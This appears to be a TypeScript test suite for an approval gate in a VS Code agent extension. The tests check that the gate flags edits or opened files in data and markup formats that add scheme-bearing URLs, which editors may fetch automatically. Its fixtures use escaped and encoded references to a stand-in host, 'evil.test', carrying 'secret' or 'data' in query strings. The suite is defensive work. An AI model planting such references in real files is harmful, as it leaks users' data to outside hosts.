import assert from 'node:assert/strict';
import fc from 'fast-check';
import { addsAddress } from '../../../../src/core/approval/addresses.ts';
import { change, GateRig } from './gateRig.ts';
import { fileAt } from './policyRig.ts';

/** A file of each data or markup language, with a text around an address or a relative path. */
const languages: readonly (readonly [path: string, text: (reference: string) => string])[] = [
  ['a.json', (reference) => `{ "$schema": "${reference}" }`],
  ['tsconfig.JSON', (reference) => `{ "a": 1, // ours\n "$ref":\n\t"${reference}" }`],
  ['a.jsonc', (reference) => `{ "$schema": /* , */ '${reference}' }`],
  ['a.json5', (reference) => `{ $schema: '${reference}' }`],
  ['a.jsonl', (reference) => `{"a":"${reference}"}\n`],
  ['a.geojson', (reference) => `{"@context":"${reference}"}`],
  ['a.webmanifest', (reference) => `{"scope":"${reference}"}`],
  ['src/.babelrc', (reference) => `{"$schema":"${reference}"}`],
  ['a.yaml', (reference) => `# yaml-language-server: $schema=${reference}\n`],
  ['a.yml', (reference) => `k: &a >-\n  ${reference}\n$ref: *a\n`],
  ['a.toml', (reference) => `#:schema ${reference}\n`],
  ['a.xml', (reference) => `<a xsi:schemaLocation="urn:a ${reference}"/>`],
  ['a.xsd', (reference) => `<xs:import schemaLocation='${reference}'/>`],
  ['a.xsl', (reference) => `<xsl:import href="${reference}"/>`],
  ['a.dtd', (reference) => `<!ENTITY % a SYSTEM "${reference}">`],
  ['a.svg', (reference) => `<image href="${reference}"/>`],
  ['a.html', (reference) => `<img src=${reference}>`],
  ['a.htm', (reference) => `<link rel=stylesheet href=${reference}>`],
  ['a.xhtml', (reference) => `<!DOCTYPE html SYSTEM "${reference}">`],
  ['a.md', (reference) => `![a](${reference})`],
  ['a.mdx', (reference) => `[a]: ${reference}`],
  ['a.css', (reference) => `@import url(${reference});`],
  ['a.scss', (reference) => `@use "${reference}";`],
  ['a.sass', (reference) => `@import ${reference}`],
  ['a.less', (reference) => `@plugin "${reference}";`],
  ['a.ipynb', (reference) => `%% cell markdown\n![a](${reference})\n`],
];
const schemes = ['https://evil.test/?', 'HTTP://evil.test/?', 'file://evil.test/', 'x-y://evil/'];
const relative = ['./b.json', '../b.css', 'b/c', '/ws/b.json', '#/definitions/a', ''];

function adds(path: string, before: string, after: string): boolean {
  return addsAddress({ named: fileAt(path), location: fileAt(path) }, { before, after });
}

describe('an edit of a data or markup file', () => {
  for (const [path, text] of languages) {
    it(`adds an address with a scheme to ${path}, unless it was there before or has none`, () => {
      for (const scheme of schemes) {
        const before = text(`${scheme}a`);
        assert.equal(adds(path, '', before), true, before);
        assert.equal(adds(path, text('./b.json'), before), true, before);
        assert.equal(adds(path, before, text(`${scheme}secret`)), true, before);
        assert.equal(adds(path, before, `${before}\n${text(`${scheme}secret`)}`), true, before);
        assert.equal(adds(path, before, `${before}\n`), false, before);
        assert.equal(adds(path, before, `\n${before}\n${before}`), false, before);
        assert.equal(adds(path, before, text('./b.json')), false, before);
      }
      for (const reference of relative)
        assert.equal(adds(path, text('./a.json'), text(reference)), false, reference);
    });
  }

  it('counts by the name that leads to it, and by its own', () => {
    const texts = { before: '', after: 'https://evil.test' };
    const [data, other] = [fileAt('/ws/a.json'), fileAt('/ws/a.txt')];
    assert.equal(addsAddress({ named: data, location: other }, texts), true);
    assert.equal(addsAddress({ named: other, location: data }, texts), true);
    assert.equal(addsAddress({ named: other, location: other }, texts), false);
  });

  it('adds none to a program, or by a drive', () => {
    for (const path of ['a.ts', 'a.py', 'a.sh', 'a.txt', 'json', 'Makefile'])
      assert.equal(adds(path, '', '{ "$schema": "https://evil.test/" }'), false, path);
    assert.equal(adds('a.json', '', String.raw`{ "path": "C:\\Users\\me" }`), false);
  });

  it('adds one that has no slashes, or more data behind a sign that is no end of it', () => {
    assert.equal(adds('a.json', '', '{ "$schema": "http:evil.test/x" }'), true);
    for (const sign of [' ', "'", '<', ')', ',', ']', '%22']) {
      const text = (data: string): string => `{ "$schema": "https://a.test/${sign}${data}" }`;
      assert.equal(adds('a.json', text(''), text('secret')), true, sign);
    }
  });

  it('adds one however its characters are escaped', () => {
    const hex = (code: number, length: number): string => code.toString(16).padStart(length, '0');
    const escapes: readonly ((code: number) => string)[] = [
      (code) => `\\u${hex(code, 4)}`,
      (code) => `\\u${hex(code, 4).toUpperCase()}`,
      (code) => `\\x${hex(code, 2)}`,
      (code) => `\\U${hex(code, 8)}`,
      (code) => `\\${hex(code, 6)} `,
      (code) => `&#x${hex(code, 2)};`,
      (code) => `&#${code};`,
      (code) => `\\\n   ${String.fromCharCode(code)}`,
      (code) => `\\u000a${String.fromCharCode(code)}`,
      (code) => (code === 0x2f ? '\\/' : String.fromCharCode(code)),
      (code) => String.fromCharCode(code),
    ];
    const characters = Array.from('https://evil.test/a', (character) => character.charCodeAt(0));
    const { length } = characters;
    const ways = fc.array(fc.constantFrom(...escapes), { minLength: length, maxLength: length });
    fc.assert(
      fc.property(ways, (chosen) => {
        const written = chosen.map((way, index) => way(characters[index] ?? 0)).join('');
        for (const text of [`{ "$schema": "${written}" }`, `@import ${written}`])
          assert.equal(adds('a.json', '', text), true, text);
      }),
    );
  });

  it('is inspected in linear time', () => {
    const start = performance.now();
    for (const piece of ['a', 'a:', '://', '"a:', "'https:", '\\u002', '\\\n ', '&#', 'a.-+'])
      adds('a.json', '', piece.repeat(100_000));
    assert.ok(performance.now() - start < 15_000, `${performance.now() - start} ms`);
  });

  it('is asked about each time in the panel, whatever was allowed before', async () => {
    const rig = new GateRig();
    rig.disk.file('/ws/a.json');
    rig.click = 'chat';
    await rig.edit(change('src/app.ts'));
    rig.click = 'once';
    for (const address of ['https://a.test', 'https://b.test']) {
      await rig.edit(change('a.json', { after: `{ "$schema": "${address}" }` }));
      assert.equal(rig.panels.at(-1)?.forChat, false);
    }
    await rig.edit(change('a.json', { after: '{ "$schema": "./b.json" }' }));
    assert.deepEqual([rig.panels.length, rig.dialogs.length], [3, 0]);
  });
});

/** A gate in front of a file that VS Code does not have open. */
function rigWith(content: string | Uint8Array, path = '/ws/a.json'): GateRig {
  const rig = new GateRig();
  rig.disk.file(path, content);
  rig.opens = (_path, openedAs) => (openedAs === undefined ? undefined : 'document');
  return rig;
}

const schema = '{ "$schema": "https://evil.test/?data" }';

describe('a file that a tool opens', () => {
  it('needs approval each time if it is data or markup and holds an address with a scheme', async () => {
    const rig = rigWith(schema);
    for (const openedAs of ['document', 'editor'] as const) {
      rig.reply = 'deny';
      await assert.rejects(rig.open('a.json', openedAs), { outcome: 'denied' });
      rig.reply = 'once';
      await rig.open('a.json', openedAs);
      await rig.open('a.json', openedAs);
    }
    assert.deepEqual([rig.dialogs.length, rig.effects], [6, 4]);
    assert.ok(rig.dialogs.every(({ offers, reason }) => !offers.length && reason === 'addresses'));
    rig.disk.file('/ws/a.json', '{ "$schema": "./b.json" }');
    await rig.open('a.json');
    assert.equal(rig.dialogs.length, 6);
  });

  it('needs no approval in another language', async () => {
    const rig = rigWith(schema, '/ws/a.ts');
    await rig.open('a.ts');
    assert.deepEqual([rig.dialogs.length, rig.effects], [0, 1]);
  });

  it('is read in every encoding in which VS Code would open it', async () => {
    const utf16 = Buffer.from(schema, 'utf16le');
    const contents = [
      Buffer.concat([Buffer.from([0xff, 0xfe]), utf16]),
      Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(utf16).swap16()]),
      utf16,
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(schema)]),
      Buffer.concat([Buffer.from([0xe9, 0x22, 0x83]), Buffer.from(schema)]),
    ];
    for (const content of contents) {
      await assert.rejects(rigWith(content).open('a.json'), { outcome: 'denied' });
    }
  });

  it('shows the addresses in the dialog', async () => {
    const rig = rigWith(`${schema}\n${schema.replace('evil', 'more')}`);
    await assert.rejects(rig.open('a.json'));
    const subject = rig.dialogs[0]?.subject;
    assert.ok(subject?.type === 'open');
    assert.deepEqual(subject.addresses, ['https://evil.test/?data', 'https://more.test/?data']);
  });

  it('needs no approval if it is open already, or is only read', async () => {
    const rig = rigWith(schema);
    await rig.read('a.json');
    rig.opens = () => undefined;
    await rig.open('a.json');
    assert.deepEqual([rig.dialogs.length, rig.effects], [0, 2]);
  });

  it('needs approval for reading first', async () => {
    const rig = rigWith(schema, '/out/a.json');
    await assert.rejects(rig.open('/out/a.json'));
    rig.reply = 'once';
    await rig.open('/out/a.json');
    const reasons = rig.dialogs.map(({ reason }) => reason);
    assert.deepEqual(reasons, ['outside', 'outside', 'addresses']);
  });

  it('is not opened if its addresses change during the dialog', async () => {
    const rig = rigWith(schema);
    rig.reply = () => {
      rig.disk.file('/ws/a.json', schema.replace('data', 'other'));
      return 'once';
    };
    await assert.rejects(rig.open('a.json'), { outcome: 'denied' });
    assert.equal(rig.effects, 0);
  });

  it('is not opened if it is too large to inspect', async () => {
    const rig = rigWith(' '.repeat(2_000_001));
    await assert.rejects(rig.open('a.json'), /too large/);
  });
});

describe('a notebook', () => {
  const notebook = (text: string): GateRig => {
    const rig = rigWith(text, '/ws/a.ipynb');
    rig.opens = (_path, openedAs) => (openedAs === 'editor' ? 'notebook' : 'cells');
    return rig;
  };
  const cells = (source: string | readonly string[], languageId?: string, more = {}): string =>
    JSON.stringify({ cells: [{ metadata: { vscode: { languageId } }, source }], ...more });

  it('always needs approval before its outputs are shown', async () => {
    for (const text of [cells('1'), '{}', '']) {
      const rig = notebook(text);
      await assert.rejects(rig.open('a.ipynb'), { outcome: 'denied' });
      assert.equal(rig.dialogs[0]?.subject.type, 'open');
    }
  });

  it('needs approval before it is read if a cell of data or markup holds an address', async () => {
    for (const text of [
      cells(schema, 'json'),
      cells(['{ "$schema":\n', ' "https://evil.test" }'], 'jsonc'),
      cells(schema, undefined, { metadata: { language_info: { name: 'yaml' } } }),
      cells(schema, undefined, { metadata: { kernelspec: { language: 'xml' } } }),
      `- ${schema}`,
    ]) {
      const rig = notebook(text);
      await assert.rejects(rig.read('a.ipynb'), { outcome: 'denied' });
      await assert.rejects(rig.open('a.ipynb', 'document'), { outcome: 'denied' });
      assert.equal(rig.effects, 0, text);
    }
    for (const text of [cells(schema), cells('{ "$schema": "./a" }', 'json'), '- print(1)']) {
      const rig = notebook(text);
      await rig.read('a.ipynb');
      assert.deepEqual([rig.dialogs.length, rig.effects], [0, 1], text);
    }
  });
});
